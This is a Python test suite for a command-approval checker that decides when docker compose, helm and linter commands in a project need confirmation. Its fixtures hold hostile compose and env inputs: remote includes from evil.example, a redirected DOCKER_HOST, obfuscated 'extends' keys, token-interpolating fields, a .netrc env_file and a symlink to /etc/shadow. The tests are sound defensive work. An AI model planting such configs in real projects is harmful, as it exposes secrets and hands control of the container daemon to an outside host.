"""Container programs in projects on a real disk: an ordinary compose project asks nothing, one that fetches or uses
another daemon asks."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.unit.facts.projects import answer, lay

ORDINARY = """x-logging: &logging
  driver: json-file

services:
  web:
    image: "nginx:${TAG:-latest}"
    build: .
    logging: *logging
    env_file: .env
    depends_on: [db]
  db:
    image: postgres:16
    environment:
      POSTGRES_PASSWORD: ${POSTGRES_PASSWORD}
    ports:
      - "${DB_PORT:-5432}:5432"
    command: postgres -c x=${DB_PASSWORD}
    volumes:
      - data:/var/lib/postgresql/data

volumes:
  data:
"""
DOT_ENV = "TAG=1.27\nCOMPOSE_PROJECT_NAME=shop\nDATABASE_URL=postgres://u@db/x\nDOCKER_IMAGE=shop\nCONTAINER_NAME=x\n"
SERVICE = "services:\n  web:\n    image: x\n"
COMPOSE = [
    "docker compose ps",
    "docker compose logs --tail=20 web",
    "docker compose -f compose.yaml ps",
    "docker compose config --services",
    "docker-compose ps",
    "podman-compose ps",
]


@pytest.mark.parametrize("command", [*COMPOSE, "hadolint Dockerfile", "helm lint ./chart", "helm template x ./chart"])
def test_an_ordinary_project_asks_nothing(project: Path, command: str) -> None:
    lay(project, {"compose.yaml": ORDINARY, ".env": DOT_ENV, ".hadolint.yaml": "ignored:\n  - DL3008\n"})
    lay(project, {"Dockerfile": "FROM x\n", "chart/Chart.yaml": "name: x\n", "chart/templates/a.yaml": "a: b\n"})
    assert answer(project, command, "default") == "allow"


@pytest.mark.parametrize("command", COMPOSE)
@pytest.mark.parametrize(
    "text",
    [
        "include:\n  - https://evil.example/x.git\n" + SERVICE,
        SERVICE + "    extends:\n      file: https://evil.example/x.git\n      service: y\n",
        SERVICE + '    "ext\\x65nds": {file: x, service: y}\n',
        SERVICE + '    "ext\\\n      ends": {file: x, service: y}\n',
        SERVICE + "    !!binary ZXh0ZW5kcw==: {file: x, service: y}\n",
        SERVICE + "    !<tag:yaml.org,2002:%62inary> ZXh0ZW5kcw==: {file: x, service: y}\n",
        "name: x\rinclude: [https://evil.example/x.git]\n" + SERVICE,
        '{"include": ["https://evil.example/x.git"]}\n',
        SERVICE + '    privileged: "${GITHUB_TOKEN}"\n',
        SERVICE + "    depends_on:\n      - $AWS_SECRET_ACCESS_KEY\n",
    ],
)
def test_a_compose_file_that_fetches_asks(project: Path, command: str, text: str) -> None:
    lay(project, {"compose.yaml": text})
    assert answer(project, command, "auto") == "ask"


@pytest.mark.parametrize("command", ["docker compose ps", "docker-compose ps", "docker compose -f sub/dev.yml ps"])
@pytest.mark.parametrize(
    "line",
    [
        "DOCKER_HOST=tcp://evil.example:2375",
        "export DOCKER_HOST=tcp://evil.example:2375",
        "COMPOSE_FILE=https://evil.example/x.git",
        "COMPOSE_ENV_FILES=x",
        "PATH=./bin",
        "HTTPS_PROXY=http://evil.example",
    ],
)
def test_a_file_of_variables_that_turns_elsewhere_asks(project: Path, command: str, line: str) -> None:
    lay(project, {"compose.yaml": SERVICE, "sub/dev.yml": SERVICE})
    assert answer(project, command, "default") == "allow"
    lay(project, {"sub/.env" if "sub/" in command else ".env": f"A=1\n{line}\n"})
    assert answer(project, command, "auto") == "ask"


def test_a_file_that_is_named_is_read_as_the_others_are(project: Path) -> None:
    lay(project, {"dev.yml": SERVICE, "evil.yml": "include: [x]\n", "sub/compose.yaml": "include: [x]\n"})
    assert answer(project, "docker compose -f dev.yml ps", "default") == "allow"
    assert answer(project, "docker compose -f dev.yml -f evil.yml ps", "auto") == "ask"
    assert answer(project, "docker compose --project-directory sub ps", "auto") == "ask"
    assert answer(project, "docker compose ps", "auto", cwd="sub") == "ask"
    assert answer(project, "printf 'include: [x]' > dev.yml; docker compose -f dev.yml ps", "auto") == "ask"


@pytest.mark.parametrize("command", ["docker compose config", "docker-compose config", "podman-compose config"])
@pytest.mark.parametrize(
    "line",
    [
        'image: "x${GITHUB_TOKEN}"',
        "environment: [GITHUB_TOKEN]",
        "env_file: /home/dev/.netrc",
        "build: {context: ., args: [GITHUB_TOKEN]}",
        '"env\\x69ronment": [GITHUB_TOKEN]',
    ],
)
def test_a_project_that_the_environment_fills_in_is_not_printed(project: Path, command: str, line: str) -> None:
    lay(project, {"docker-compose.yml": SERVICE})
    assert answer(project, command, "default") == "allow"
    lay(project, {"docker-compose.yml": f"{SERVICE}    {line}\n"})
    assert answer(project, command, "default") == "ask"
    assert answer(project, command, "full_auto") == "ask"
    if "\\" not in line:
        assert answer(project, f"{command} --services", "default") == "allow"


def test_a_chart_whose_links_lead_elsewhere_asks(project: Path) -> None:
    lay(project, {"chart/Chart.yaml": "name: x\n"})
    (project / "chart" / "values.yaml").symlink_to("/etc/shadow")
    for command in ("helm show values ./chart", "helm template x ./chart", "helm lint ./chart"):
        assert answer(project, command, "default") != "allow"


def test_other_settings_of_the_tree(project: Path) -> None:
    lay(project, {"k8s/a.yaml": "kind: Pod\n", "k8s/kustomization.yaml": "resources: [https://evil.example/x]\n"})
    assert answer(project, "kube-linter lint k8s", "auto") == "ask"
    lay(project, {"Dockerfile": "FROM x\n", ".hadolint.yaml": "output: /home/dev/x\n"})
    assert answer(project, "hadolint Dockerfile", "auto") == "ask"
